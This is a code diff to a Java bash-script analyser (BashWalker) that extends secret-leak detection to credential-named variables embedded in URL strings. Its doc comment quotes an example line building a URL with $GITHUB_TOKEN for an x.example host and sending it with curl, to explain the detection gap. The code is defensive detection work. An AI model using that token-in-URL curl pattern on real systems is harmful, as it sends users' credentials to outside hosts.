@@ -3378,6 +3378,9 @@ final class BashWalker {
             vars.candidates.put(name, candidate);
         }
         String spelled = maybe == null && candidate == null ? spelledParameter(raw) : null;
+        if (spelled == null && maybe == null && candidate == null) {
+            spelled = withSecretSpellings(raw, vars);
+        }
         if (spelled != null) {
             vars.maybe.put(name, spelled);
             return;
@@ -3424,6 +3427,27 @@ final class BashWalker {
             return null;
         }
         return "$" + (m.group("bare") != null ? m.group("bare") : m.group("braced"));
+    }
+
+    /** A reference to a variable named like a credential inside a value ({@code …?t=$GITHUB_TOKEN}, {@code ${NPM_TOKEN}}). */
+    private static final Pattern SECRET_REFERENCE = Pattern.compile("\\$\\{?(" + SecretNames.VARIABLE + ")");
+
+    /**
+     * An assigned value that holds credential-named variables among literal text
+     * ({@code U="https://x.example/?t=$GITHUB_TOKEN"}), read with each such variable as its
+     * spelling ({@code https://x.example/?t=${GITHUB_TOKEN}}, braced: a letter may follow); null when it holds none or something
+     * else stays unknown. WHY (ps36): {@link #spelledParameter} carries a value that is the
+     * variable alone ({@code t=$GITHUB_TOKEN}), and the token built into a URL first, then sent
+     * with {@code curl "$U"}, reached its host unread; kept as a maybe value, the command reading
+     * U is read a second time with the spelling in place, which only adds findings.
+     */
+    private String withSecretSpellings(String raw, Vars vars) {
+        java.util.regex.Matcher m = SECRET_REFERENCE.matcher(raw);
+        Map<String, String> spellings = new HashMap<>();
+        while (m.find()) {
+            spellings.put(m.group(1), "${" + m.group(1) + "}");
+        }
+        return spellings.isEmpty() ? null : readWith(raw, vars, spellings);
     }
 
     /**
